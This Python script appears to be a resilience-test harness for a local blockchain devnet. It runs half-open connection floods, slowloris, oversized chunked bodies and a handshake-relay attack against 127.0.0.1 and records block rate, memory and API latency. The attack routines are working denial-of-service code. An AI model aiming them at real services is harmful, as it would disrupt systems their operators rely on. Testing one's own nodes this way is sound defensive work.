#!/usr/bin/env python3
"""Attacks a running devnet as an outsider holding no key, and prints one JSON document
(schema ios.attack.v1) with the figures issue 9 asks to keep: a normal validator's block rate
under each attack as a share of its undisturbed rate, the largest RSS of every node meanwhile,
and whether the API kept answering.

Every attack targets 127.0.0.1 only, is bounded in time and count, and stops by itself.

  attack.py --home DEVNET_HOME [--seconds 30] [--ios PATH]

Attacks (each for --seconds, one after the other, with an undisturbed baseline first):
  half_open_p2p   2,000 TCP connections to the victim's peer port that never say a word
  rpc_idle_slow   2,000 idle RPC connections and 8 slowloris clients (one header byte a second)
  chunked_bodies  POST /v1/tx with 10 MiB chunked bodies, 4 clients in a loop
  handshake_relay splice a connection to one validator with a connection to another, as fast
                  as possible (the v1 relay attack: each side must see the other as the dialer)
"""
import argparse
import json
import os
import resource
import socket
import subprocess
import threading
import time
import urllib.request

HOST = "127.0.0.1"


def ios_json(ios, *args):
    out = subprocess.run([ios, *args, "--json"], check=True, capture_output=True, text=True).stdout
    return json.loads(out)


def get_json(url, timeout=5.0):
    with urllib.request.urlopen(url, timeout=timeout) as r:
        return json.loads(r.read())


def height(rpc):
    return get_json(rpc + "/v1/status")["height"]


def rss_kb(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


class Sampler:
    """Polls the victim's height, every node's RSS and the API's latency while an attack runs."""

    def __init__(self, victim_rpc, pids):
        self.victim_rpc = victim_rpc
        self.pids = pids
        self.max_rss_kb = {p: 0 for p in pids}
        self.status_ok = 0
        self.status_failed = 0
        self.status_ms = []
        self._stop = threading.Event()

    def run(self, seconds):
        start_h = self._height_or_none()
        t0 = time.monotonic()
        while time.monotonic() - t0 < seconds:
            for p in self.pids:
                self.max_rss_kb[p] = max(self.max_rss_kb[p], rss_kb(p))
            s = time.monotonic()
            if self._height_or_none() is None:
                self.status_failed += 1
            else:
                self.status_ok += 1
                self.status_ms.append((time.monotonic() - s) * 1000)
            time.sleep(0.5)
        end_h = self._height_or_none()
        elapsed = time.monotonic() - t0
        if start_h is None or end_h is None:
            return None
        return (end_h - start_h) / elapsed

    def _height_or_none(self):
        try:
            return height(self.victim_rpc)
        except Exception:
            return None


def hold_idle(port, count, opened, stop):
    socks = []
    for _ in range(count):
        if stop.is_set():
            break
        try:
            s = socket.create_connection((HOST, port), timeout=2)
            socks.append(s)
            opened[0] += 1
        except OSError:
            time.sleep(0.01)
    stop.wait()
    for s in socks:
        s.close()


def slowloris(port, stats, stop):
    while not stop.is_set():
        try:
            s = socket.create_connection((HOST, port), timeout=5)
            for b in b"GET /v1/status HTTP/1.1\r\nHost: x\r\nX-a: " + b"b" * 10_000:
                if stop.is_set():
                    break
                s.send(bytes([b]))
                stop.wait(1.0)
            s.close()
        except OSError:
            stats["slowloris_cut"] += 1  # the server dropped it
            stop.wait(0.2)


def chunked(port, stats, stop):
    chunk = b"a" * 65536
    while not stop.is_set():
        try:
            s = socket.create_connection((HOST, port), timeout=5)
            s.sendall(b"POST /v1/tx HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
            sent = 0
            while sent < 10 * 1024 * 1024 and not stop.is_set():
                s.sendall(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
                sent += len(chunk)
            stats["chunked_bytes_sent"] += sent
            stats["chunked_fully_sent"] += 1
            s.close()
        except OSError:
            stats["chunked_refused_early"] += 1


def relay(port_a, port_b, stats, stop):
    while not stop.is_set():
        try:
            a = socket.create_connection((HOST, port_a), timeout=2)
            b = socket.create_connection((HOST, port_b), timeout=2)
        except OSError:
            continue
        stats["relays"] += 1
        a.settimeout(0.5)
        b.settimeout(0.5)
        moved = 0
        try:
            for _ in range(8):
                for src, dst in ((a, b), (b, a)):
                    try:
                        data = src.recv(65536)
                    except socket.timeout:
                        continue
                    if not data:
                        raise OSError("closed")
                    dst.sendall(data)
                    moved += len(data)
        except OSError:
            pass
        stats["relay_bytes"] += moved
        a.close()
        b.close()


def run_attack(name, victim, nodes, seconds, workers, extra=None):
    """Each worker is (function, args...); the function gets a stop Event as its last argument."""
    stop = threading.Event()
    threads = [threading.Thread(target=w[0], args=(*w[1:], stop), daemon=True) for w in workers]
    for t in threads:
        t.start()
    sampler = Sampler(victim["rpc"], [n["pid"] for n in nodes])
    rate = sampler.run(seconds)
    stop.set()
    for t in threads:
        t.join(timeout=15)
    ms = sorted(sampler.status_ms)
    return {
        "attack": name,
        "blocks_per_s": rate,
        "max_rss_mb": {n["name"]: round(sampler.max_rss_kb[n["pid"]] / 1024, 1) for n in nodes},
        "status_answered": sampler.status_ok,
        "status_failed": sampler.status_failed,
        "status_p99_ms": round(ms[int(len(ms) * 0.99) - 1], 1) if ms else None,
        **(extra or {}),
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--home", required=True)
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--ios", default="ios")
    args = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    status = ios_json(args.ios, "devnet", "status", "--home", args.home)
    nodes = []
    for n in status["nodes"]:
        with open(os.path.join(args.home, "nodes", n["name"], "ports.json")) as f:
            ports = json.load(f)
        nodes.append({"name": n["name"], "role": n["role"], "pid": n["pid"], "p2p": ports["p2p"],
                      "rpc": n["rpc_url"].rstrip("/")})
    normal = [n for n in nodes if n["role"] == "normal"]
    victim = normal[0]
    other = normal[1]
    s = args.seconds
    results = [run_attack("baseline", victim, nodes, s, [])]

    opened = [0]
    results.append(run_attack("half_open_p2p", victim, nodes, s,
                              [(hold_idle, victim["p2p"], 2000, opened)], {"connections_opened": opened}))
    results[-1]["connections_opened"] = opened[0]

    idle_opened = [0]
    st = {"slowloris_cut": 0}
    workers = [(hold_idle, int(victim["rpc"].rsplit(":", 1)[1]), 2000, idle_opened)]
    workers += [(slowloris, int(victim["rpc"].rsplit(":", 1)[1]), st) for _ in range(8)]
    results.append(run_attack("rpc_idle_slow", victim, nodes, s, workers, st))
    results[-1]["connections_opened"] = idle_opened[0]

    st = {"chunked_bytes_sent": 0, "chunked_fully_sent": 0, "chunked_refused_early": 0}
    rpc_port = int(victim["rpc"].rsplit(":", 1)[1])
    results.append(run_attack("chunked_bodies", victim, nodes, s, [(chunked, rpc_port, st) for _ in range(4)], st))

    st = {"relays": 0, "relay_bytes": 0}
    results.append(run_attack("handshake_relay", victim, nodes, s,
                              [(relay, victim["p2p"], other["p2p"], st) for _ in range(4)], st))

    base = results[0]["blocks_per_s"] or 0
    for r in results:
        r["share_of_baseline"] = round(r["blocks_per_s"] / base, 3) if base and r["blocks_per_s"] is not None else None
        if r["blocks_per_s"] is not None:
            r["blocks_per_s"] = round(r["blocks_per_s"], 2)
    cpu = next((l.split(":", 1)[1].strip() for l in open("/proc/cpuinfo") if l.startswith("model name")), "?")
    print(json.dumps({"schema": "ios.attack.v1", "victim": victim["name"], "seconds_per_attack": s,
                      "results": results, "machine": {"cpu": cpu, "cores": os.cpu_count()}}, indent=2))


if __name__ == "__main__":
    main()
